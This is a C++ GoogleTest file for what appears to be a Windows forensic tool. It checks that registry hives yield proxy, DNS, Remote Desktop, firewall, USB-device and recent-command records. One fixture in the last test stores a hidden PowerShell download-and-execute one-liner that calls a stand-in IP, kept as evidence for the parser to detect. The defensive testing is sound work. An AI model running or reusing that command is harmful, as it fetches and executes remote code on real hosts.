// Proxies, name servers, Remote Desktop, the firewall's log, USB devices, lists of users.
#include <gtest/gtest.h>

#include "tests/support/host_documents.h"

namespace xiezhi::testing {
namespace {

std::string u32(std::size_t value) {
    std::string out(4, '\0');
    for (std::size_t i = 0; i < 4; ++i) out[i] = static_cast<char>(value >> (8 * i));
    return out;
}
std::string counted(const std::string& text) {
    return u32(text.size()) + text;
}

HiveKey& internet(HiveKey& user) {
    return key_at(user, R"(Software\Microsoft\Windows\CurrentVersion\Internet Settings)");
}

TEST(HostNetwork, ProxyOfAUser) {
    HiveKey root = user_root();
    internet(root).values = {number_value("ProxyEnable", 1),
                             text_value("ProxyServer", "http=127.0.0.1:8899;https=proxy.x:3128")};
    WrittenHost written;
    written.user_hive("li", root);
    const HostDocuments host = written.read();
    const State& proxy = host.one(Dataset::Proxy, StateField::UserName, "li");
    EXPECT_TRUE(proxy.is_true(StateField::ProxyEnabled));
    EXPECT_EQ(proxy.values(StateField::ProxyServer),
              (std::vector<std::string>{"http=127.0.0.1:8899", "https=proxy.x:3128"}));
    EXPECT_EQ(proxy.values(StateField::ProxyAddress), std::vector<std::string>{"127.0.0.1"});
    EXPECT_EQ(proxy.values(StateField::ProxyPort), (std::vector<std::string>{"8899", "3128"}));
}

TEST(HostNetwork, ScriptInTheConnection) {
    HiveKey root = user_root();
    key_at(root, R"(Software\Microsoft\Windows\CurrentVersion\Internet Settings\Connections)")
        .values = {binary_value("DefaultConnectionSettings",
                                u32(0x46) + u32(9) + u32(5) + counted("") + counted("<local>") +
                                    counted("http://203.0.113.9/p.pac"))};
    WrittenHost written;
    written.user_hive("li", root);
    const HostDocuments host = written.read();
    const State& proxy = host.one(Dataset::Proxy, StateField::UserName, "li");
    EXPECT_EQ(proxy.text(StateField::ProxyScriptUrl), "http://203.0.113.9/p.pac");
    EXPECT_EQ(proxy.text(StateField::ProxyAddress), "203.0.113.9");
}

TEST(HostNetwork, ProxyThatIsSwitchedOffHasNoAddress) {
    HiveKey root = user_root();
    internet(root).values = {number_value("ProxyEnable", 0),
                             text_value("ProxyServer", "127.0.0.1:8899")};
    WrittenHost written;
    written.user_hive("li", root);
    const HostDocuments host = written.read();
    const State& proxy = host.one(Dataset::Proxy, StateField::UserName, "li");
    EXPECT_EQ(proxy.text(StateField::ProxyEnabled), "false");
    EXPECT_FALSE(proxy.has(StateField::ProxyAddress));
}

TEST(HostNetwork, ProxyOfServices) {
    HiveKey root = software_root();
    key_at(root, R"(Microsoft\Windows\CurrentVersion\Internet Settings\Connections)").values = {
        binary_value("WinHttpSettings", u32(0x28) + u32(0) + u32(3) + counted("198.51.100.7:3128") +
                                            counted("*.corp"))};
    WrittenHost written;
    written.hive("SOFTWARE", root);
    const HostDocuments host = written.read();
    const State& proxy = host.one(Dataset::Proxy, StateField::ProxyKind, "winhttp");
    EXPECT_EQ(proxy.text(StateField::ProxyAddress), "198.51.100.7");
    EXPECT_EQ(proxy.text(StateField::ProxyBypass), "*.corp");
}

TEST(HostNetwork, NameServers) {
    HiveKey root = system_root();
    const std::string services = R"(ControlSet001\Services\)";
    key_at(root, services + R"(Tcpip\Parameters\Interfaces\{1})").values = {
        text_value("NameServer", "8.8.8.8,10.0.0.1"), text_value("DhcpNameServer", "10.0.0.1")};
    key_at(root, services + R"(Dnscache\Parameters\DnsPolicyConfig\{2})").values = {
        multi_text_value("Name", {".corp.example"}),
        text_value("GenericDNSServers", "203.0.113.9")};
    WrittenHost written;
    written.hive("SYSTEM", root);
    const HostDocuments host = written.read();
    const State& public_one = host.one(Dataset::DnsServer, StateField::DnsServer, "8.8.8.8");
    EXPECT_EQ(public_one.text(StateField::DnsDiffers), "true");
    EXPECT_EQ(host.of(Dataset::DnsServer).size(), 4U);
    const State& policy = host.one(Dataset::DnsServer, StateField::DnsSource, "policy");
    EXPECT_EQ(policy.text(StateField::DnsInterface), ".corp.example");
}

HiveKey remote_desktop(const char* rule) {
    HiveKey root = system_root();
    const std::string control = R"(ControlSet001\Control\Terminal Server)";
    key_at(root, control).values = {number_value("fDenyTSConnections", 0)};
    key_at(root, control + R"(\WinStations\RDP-Tcp)").values = {
        number_value("PortNumber", 3390), number_value("UserAuthentication", 1),
        number_value("SecurityLayer", 2)};
    const std::string policy = R"(ControlSet001\Services\SharedAccess\Parameters\FirewallPolicy\)";
    key_at(root, policy + "StandardProfile").values = {number_value("EnableFirewall", 1)};
    key_at(root, policy + "FirewallRules").values = {text_value("RDP", rule)};
    return root;
}

std::string reach(const HiveKey& system, const HiveKey& software) {
    WrittenHost written;
    written.hive("SYSTEM", system).hive("SOFTWARE", software);
    const HostDocuments host = written.read();
    const State& state = host.one(Dataset::RemoteDesktop, StateField::RdpPort, "3390");
    EXPECT_EQ(state.text(StateField::RdpSecurityLayer), "2");
    return std::string(state.text(StateField::RdpEnabled)) + ' ' +
           std::string(state.text(StateField::RdpNetworkLevelAuthentication)) + ' ' +
           std::string(state.text(StateField::RdpFirewall));
}

TEST(HostNetwork, RemoteDesktopBehindTheFirewall) {
    constexpr const char* kAny =
        "v2.31|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=3390|Name=@x|";
    constexpr const char* kLimited =
        "v2.31|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=3390|RA4=10.0.0.0/255.0.0.0|";
    constexpr const char* kOff =
        "v2.31|Action=Allow|Active=FALSE|Dir=In|Protocol=6|LPort=3390|Name=@x|";
    EXPECT_EQ(reach(remote_desktop(kAny), software_root()), "true true any");
    EXPECT_EQ(reach(remote_desktop(kLimited), software_root()), "true true limited");
    EXPECT_EQ(reach(remote_desktop(kOff), software_root()), "true true closed");
    HiveKey off = remote_desktop(kOff);
    key_at(off, R"(ControlSet001\Services\SharedAccess\Parameters\FirewallPolicy\PublicProfile)")
        .values = {number_value("EnableFirewall", 0)};
    EXPECT_EQ(reach(off, software_root()), "true true off");
    HiveKey policy = software_root();
    key_at(policy, R"(Policies\Microsoft\Windows NT\Terminal Services)").values = {
        number_value("fDenyTSConnections", 1), number_value("UserAuthentication", 0)};
    EXPECT_EQ(reach(remote_desktop(kAny), policy), "false false any");
}

TEST(HostNetwork, FirewallLog) {
    HiveKey root = system_root();
    const std::string policy = R"(ControlSet001\Services\SharedAccess\Parameters\FirewallPolicy\)";
    key_at(root, policy + "PublicProfile").values = {number_value("EnableFirewall", 1)};
    key_at(root, policy + R"(DomainProfile\Logging)").values = {
        number_value("LogDroppedPackets", 1), number_value("LogSuccessfulConnections", 1),
        number_value("LogFileSize", 32767)};
    WrittenHost written;
    written.hive("SYSTEM", root);
    const HostDocuments host = written.read();
    const State& open = host.one(Dataset::FirewallProfile, StateField::FirewallProfile, "public");
    EXPECT_EQ(open.text(StateField::FirewallLogDropped), "false");
    EXPECT_EQ(open.text(StateField::FirewallLogSizeKib), "4096");
    const State& set = host.one(Dataset::FirewallProfile, StateField::FirewallProfile, "domain");
    EXPECT_EQ(set.text(StateField::FirewallLogAllowed), "true");
    EXPECT_EQ(set.text(StateField::FirewallLogSizeKib), "32767");
}

TEST(HostNetwork, UsbDevices) {
    HiveKey root = system_root();
    const std::string device =
        R"(ControlSet001\Enum\USBSTOR\Disk&Ven_Kingston&Prod_DataTraveler&Rev_1.00\0123&0)";
    std::string time(8, '\0');
    for (std::size_t i = 0; i < 8; ++i) {
        time[i] = static_cast<char>(days_ago(20).ticks >> (8 * i));
    }
    key_at(root, device + R"(\Properties\{83da6326-97a6-4088-9453-a1923f573b29}\0064)").values = {
        {.name = "", .type = 0xffff0010, .data = time}};
    WrittenHost written;
    written.hive("SYSTEM", root);
    const HostDocuments host = written.read();
    const State& usb = host.one(Dataset::UsbDevice, StateField::DeviceSerial, "0123&0");
    EXPECT_EQ(usb.text(StateField::DeviceModel), "Kingston DataTraveler");
    EXPECT_EQ(usb.text(StateField::DeviceFirstSeen), "2016-01-26T08:53:20.0000000Z");
    EXPECT_TRUE(usb.has(StateField::DeviceLastSeen));  // the key's own time
}

TEST(HostNetwork, WhatUsersTypedAndOpened) {
    HiveKey root = user_root();
    const std::string explorer = R"(Software\Microsoft\Windows\CurrentVersion\Explorer\)";
    key_at(root, explorer + "RunMRU").values = {
        text_value("MRUList", "a"),
        text_value("a", "powershell -w h -c \"iex(irm http://198.51.100.7)\"\\1")};
    key_at(root, explorer + "RecentDocs").values = {
        binary_value("0", text_value("", "工资.xlsx").data + std::string(20, 'x')),
        binary_value("MRUListEx", std::string(4, '\0'))};
    key_at(root, R"(Software\Microsoft\Terminal Server Client\Default)").values = {
        text_value("MRU0", "10.0.0.5")};
    key_at(root, R"(Software\Microsoft\Terminal Server Client\Servers\10.0.0.6)").values = {
        text_value("UsernameHint", "CORP\\wang")};
    WrittenHost written;
    written.user_hive("li", root);
    const HostDocuments host = written.read();
    const State& run = host.one(Dataset::RecentItem, StateField::RecentList, "run");
    EXPECT_EQ(run.text(StateField::RecentText),
              "powershell -w h -c \"iex(irm http://198.51.100.7)\"");
    EXPECT_EQ(run.text(StateField::TraitInterpreter), "powershell");
    EXPECT_EQ(host.one(Dataset::RecentItem, StateField::RecentList, "recent_docs")
                  .text(StateField::RecentText),
              "工资.xlsx");
    EXPECT_EQ(host.of(Dataset::RecentItem).size(), 2U);
    EXPECT_EQ(host.one(Dataset::RdpTarget, StateField::ServerAddress, "10.0.0.6")
                  .text(StateField::RdpUserHint),
              "CORP\\wang");
    EXPECT_EQ(host.of(Dataset::RdpTarget).size(), 2U);
}

}  // namespace
}  // namespace xiezhi::testing
